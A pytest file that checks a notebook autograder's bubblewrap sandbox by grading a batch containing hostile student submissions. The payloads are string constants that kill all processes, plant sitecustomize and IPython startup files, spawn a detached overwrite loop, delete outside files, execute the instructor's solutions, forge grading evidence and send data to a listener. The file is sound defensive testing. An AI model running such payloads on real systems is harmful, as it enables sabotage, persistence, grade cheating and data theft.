"""A class of 20 toy submissions (hostile ones among correct ones) graded by the real CLI with --jobs 2.

The hostile learners kill every process they can see, plant startup/site/tmp files, leave a
detached process, try to delete files outside their work folder, look for the solutions through
``helpers.__file__`` and connect to a host listener. Asserted: every other learner gets exactly
the grade it would get alone, no file outside the work folders changes, and nothing (process,
temporary folder) is left after the batch. Also: a missing or broken bwrap stops the grader
(exit 2) with how to install it, and --no-sandbox is recorded.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import socket
import uuid
from pathlib import Path

import nbformat
import pytest
from grade_fixtures import (
    LAMBDA_HARD_CODED,
    LAMBDA_TOY,
    TOY,
    _insert_after,
    _solved,
    _with_double,
    build_lambda_solutions,
    build_toy_solutions,
    lambda_submission,
    processes_with,
    statuses_by_learner,
    toy_starter,
    watched_grading,
)

from kit.grade import rows as R
from kit.grade import run as run_module
from kit.grade import sandbox
from kit.grade.__main__ import main

REPO = Path(__file__).resolve().parents[1]
P, F = R.PASSED, R.FAILED
GOOD = (P, P, P, P, P)  # double, hidden double, answer, train, target
STARTER = (F, F, F, P, P)
needs_sandbox = pytest.mark.skipif(sandbox._probe() != "", reason=f"no sandbox here: {sandbox._probe()}")

KILL_ALL = "import os, signal, time\ntime.sleep(3)\nos.kill(-1, signal.SIGKILL)\ntime.sleep(2)\n"
KILL_PROC = '''import os, signal, time
time.sleep(3)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid()):
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
time.sleep(2)
'''
PLANT = r'''import os, pathlib, site, sys
evil = "import os; os._exit(1)\n"  # kills any later interpreter or kernel that runs it
for path in [pathlib.Path.home() / ".ipython/profile_default/startup/00-evil.py",
             pathlib.Path.home() / ".ipython/profile_default/ipython_kernel_config.py",
             pathlib.Path.home() / ".config/matplotlib/matplotlibrc",
             pathlib.Path(site.getusersitepackages()) / "evil.pth",
             pathlib.Path(site.getusersitepackages()) / "sitecustomize.py",
             pathlib.Path("/tmp/sitecustomize.py"), pathlib.Path("/tmp/evil.pth"),
             pathlib.Path(sys.prefix) / "lib/python3.11/site-packages/sitecustomize.py",
             pathlib.Path(sys.base_prefix) / "lib/python3.11/sitecustomize.py",
             pathlib.Path("/kit/helpers/sitecustomize.py"), pathlib.Path("/kit/helpers/__init__.py"),
             pathlib.Path("/grade/report/pytest.ini")]:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(evil)
    except OSError:
        pass
'''
DAEMON = '''import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sh", ["/bin/sh", "-c",
                  "while true; do for d in /tmp/kit-grade-*/work; do echo evil > $d/submission.ipynb; done; "
                  "sleep 0.2; done; : MARKER"], {})
    os._exit(0)
time.sleep(0.5)
'''
DELETE = '''import glob, os, shutil
for path in TARGETS + glob.glob("/tmp/kit-grade-*/**", recursive=True) + glob.glob(INBOX + "/**", recursive=True):
    try:
        os.remove(path) if os.path.isfile(path) else shutil.rmtree(path)
    except OSError:
        pass
    try:
        open(path, "w").write("learner was here")
    except OSError:
        pass
'''
READ = '''import glob, os, pathlib, helpers
here = pathlib.Path(helpers.__file__).resolve()
found = [str(p) for parent in here.parents for p in parent.glob("solutions/*.ipynb")]
found += glob.glob("/**/00_toy.ipynb", recursive=True) + glob.glob(SOLUTIONS + "/*.ipynb")
found = [p for p in found if not p.startswith("/grade/work")]
if found:  # execute the instructor's cells: would give full marks
    import nbformat
    for cell in nbformat.read(found[0], as_version=4).cells:
        if cell.cell_type == "code" and "BEGIN SOLUTION" in cell.source:
            exec(cell.source, globals())
'''
# Replaces the evidence writer: factors of a hard-coded warmup, forged as a correct one at the
# lengths a learner can know (the notebook's 5, the learner-side probes, round numbers).
FORGE = '''import json, helpers.evidence as ev
def forged(check_id, source, namespace, options=None, fallback_dir=None):
    runs = {str(w): {"factors": [min((e + 1) / w, 1.0) for e in range(3 * w + 1)]} for w in (5, 7, 10, 13, 20, 25, 37)}
    data = {"name": "linear_warmup", "warmup_epochs": 5, "length_from": "argument", "runs": runs}
    call = {"function": "check_linear_warmup", "data": data}
    (ev.evidence_dir(fallback_dir) / f"{check_id}.json").write_text(json.dumps({"check": check_id, "calls": [call]}))
ev.record_cell = forged
'''
NET = '''import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"stolen")
except OSError:
    pass
'''


def _hashes(paths: list[Path]) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


def _bwrap_children() -> list[int]:
    """bwrap processes whose parent is this test process (a sandbox that was not cleaned up)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
                if "(bwrap)" in stat and int(stat.rsplit(")", 1)[1].split()[1]) == os.getpid():
                    found.append(int(entry.name))
            except (OSError, ValueError, IndexError):
                continue
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory):
    base = tmp_path_factory.mktemp("isolation")
    solution_path = build_toy_solutions(base / "solutions")
    lambda_solution = nbformat.read(build_lambda_solutions(base / "solutions"), as_version=4)
    solution = nbformat.read(solution_path, as_version=4)
    starter = toy_starter(solution)
    good = _solved(starter, solution)
    inbox = base / "class"
    marker = f"kit-daemon-{uuid.uuid4().hex[:8]}"
    tag = uuid.uuid4().hex[:8]
    canaries = [base / "instructor-notes.txt", Path.home() / f".kit-canary-{tag}", REPO / f".kit-canary-{tag}"]
    for path in canaries:
        path.write_text(f"canary {tag}\n")
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.1)

    def hostile(code: str) -> nbformat.NotebookNode:
        return _insert_after(copy.deepcopy(good), "toy-blank-answer", "attack", code)

    targets = [str(p) for p in canaries] + [str(solution_path), str(REPO / "helpers" / "__init__.py")]
    reader = copy.deepcopy(starter)
    _insert_after(reader, "toy-setup", "attack",
                  f"SOLUTIONS = {str(base / 'solutions')!r}\n" + READ)
    plan: dict[str, tuple[nbformat.NotebookNode, tuple[str, ...] | None]] = {
        # jobs 2: the first two run side by side, and so on.
        "a01-killer": (hostile(KILL_ALL), None), "a02-good": (good, GOOD),
        "a03-procwalker": (hostile(KILL_PROC), None), "a04-good": (good, GOOD),
        "a05-planter": (hostile(PLANT), GOOD), "a06-good": (good, GOOD),
        "a07-daemon": (hostile(DAEMON.replace("MARKER", marker)), GOOD), "a08-good": (good, GOOD),
        "a09-deleter": (hostile(f"TARGETS = {targets!r}\nINBOX = {str(inbox)!r}\n" + DELETE), GOOD),
        "a10-good": (good, GOOD),
        "a11-reader": (reader, STARTER),
        "a12-netter": (hostile(f"PORT = {server.getsockname()[1]}\n" + NET), GOOD),
        "a13-starter": (copy.deepcopy(starter), STARTER),
        "a14-wrong": (_with_double(copy.deepcopy(good), "return 3 * x"), (F, F, P, P, P)),
        "a15-hidden": (_with_double(copy.deepcopy(good), "return abs(2 * x)"), (P, F, P, P, P)),
        "a18-starter": (copy.deepcopy(starter), STARTER), "a20-good": (good, GOOD),
    }
    # Judged from evidence at probe warmup lengths drawn for this run.
    lambdas = {
        "a16-lambda-good": (lambda_submission(lambda_solution), (P,)),
        "a17-lambda-hard-coded": (lambda_submission(lambda_solution, LAMBDA_HARD_CODED), (F,)),
        "a19-lambda-forger": (_insert_after(lambda_submission(lambda_solution, LAMBDA_HARD_CODED), "lt-setup",
                                            "attack", FORGE), (F,)),
    }
    files = {**{k: (v, TOY) for k, v in plan.items()}, **{k: (v, LAMBDA_TOY) for k, v in lambdas.items()}}
    plan = {**plan, **lambdas}
    for learner, ((nb, _), exercise) in files.items():
        path = inbox / learner / f"{exercise}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    inbox_files = sorted(p for p in inbox.rglob("*") if p.is_file())
    before = _hashes([*canaries, solution_path, *inbox_files])
    temp = base / "tmp"
    temp.mkdir()
    try:
        with watched_grading(temp) as tokens:
            status = main([str(inbox), "--out", str(base / "out"), "--solutions", str(base / "solutions"),
                           "--jobs", "2", "--cell-timeout", "30", "--timeout", "120", "--memory-mb", "3072"])
        accepted = []
        try:
            while True:
                accepted.append(server.accept())
        except OSError:
            pass
        after = _hashes([*canaries, solution_path, *inbox_files])
        yield {"status": status, "plan": plan, "rows": R.read_csv(base / "out" / "grades.csv"), "temp": temp,
               "before": before, "after": after, "marker": marker,
               "tokens": set(tokens), "accepted": accepted, "out": base / "out"}
    finally:
        server.close()
        for path in canaries[1:]:
            path.unlink(missing_ok=True)


@needs_sandbox
def test_no_learner_changes_another_learners_grade(batch) -> None:
    assert batch["status"] == 0
    got = statuses_by_learner(batch["rows"])
    expected = {learner: statuses for learner, (_, statuses) in batch["plan"].items() if statuses is not None}
    assert {k: got[k] for k in expected} == expected


@needs_sandbox
def test_killers_only_stop_their_own_grading(batch) -> None:
    totals = {r.learner: r for r in batch["rows"] if r.is_total}
    for killer in ("a01-killer", "a03-procwalker"):  # killed its own pytest after the hidden check
        assert totals[killer].points <= 2
        assert P not in statuses_by_learner(batch["rows"])[killer][2:]  # nothing after the kill passed


@needs_sandbox
def test_no_file_outside_the_work_folders_changed(batch) -> None:
    # canaries in an instructor folder, $HOME and the checkout; the solution; every submission file
    assert batch["after"] == batch["before"]
    assert batch["accepted"] == []  # the host listener was never reached


@needs_sandbox
def test_nothing_is_left_after_the_batch(batch) -> None:
    assert list(batch["temp"].iterdir()) == []
    assert processes_with(batch["marker"].encode()) == []
    assert len(batch["tokens"]) >= 20 and all(run_module.processes_with_token(t) == [] for t in batch["tokens"])
    assert _bwrap_children() == []
    settings = json.loads((batch["out"] / "run.json").read_text())
    assert settings["sandbox"] is True and settings["submissions"] == 20
    assert "Sandbox: on (one bubblewrap sandbox per submission)." in (batch["out"] / "summary.md").read_text()


def test_missing_bwrap_stops_the_grader_with_how_to_install(tmp_path: Path, capsys,
                                                            monkeypatch) -> None:
    (tmp_path / "class").mkdir()
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    sandbox._probe.cache_clear()
    try:
        assert main([str(tmp_path / "class"), "--out", str(tmp_path / "out")]) == 2
        assert main(["check", str(REPO / "notebooks" / "01_warmup_cosine.ipynb")]) == 2
    finally:
        sandbox._probe.cache_clear()
    err = capsys.readouterr().err
    assert err.count("bubblewrap (bwrap) is not installed") == 2 and "apt-get install bubblewrap" in err
    assert "--no-sandbox" in err and not (tmp_path / "out").exists()


def test_bwrap_without_namespaces_stops_the_grader(tmp_path: Path, capsys,
                                                   monkeypatch) -> None:
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    (tmp_path / "class").mkdir()
    monkeypatch.setenv("PATH", f"{fake.parent}{os.pathsep}{os.environ['PATH']}")
    sandbox._probe.cache_clear()
    try:
        assert main([str(tmp_path / "class"), "--out", str(tmp_path / "out")]) == 2
    finally:
        sandbox._probe.cache_clear()
    err = capsys.readouterr().err
    assert "cannot create the sandbox's namespaces" in err and "No permissions to creating new namespace" in err


def test_no_sandbox_is_recorded(tmp_path: Path, capsys) -> None:
    solution = nbformat.read(build_toy_solutions(tmp_path / "solutions"), as_version=4)
    path = tmp_path / "class" / "alice" / f"{TOY}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(_solved(toy_starter(solution), solution), path)
    assert main([str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--solutions", str(tmp_path / "solutions"),
                 "--no-sandbox", "--cell-timeout", "30", "--memory-mb", "3072"]) == 0
    assert json.loads((tmp_path / "out" / "run.json").read_text())["sandbox"] is False
    err = capsys.readouterr().err
    assert "sandbox: OFF (--no-sandbox)" in err
    assert "Sandbox: **OFF** (--no-sandbox" in (tmp_path / "out" / "summary.md").read_text()
    assert statuses_by_learner(R.read_csv(tmp_path / "out" / "grades.csv")) == {"alice": GOOD}
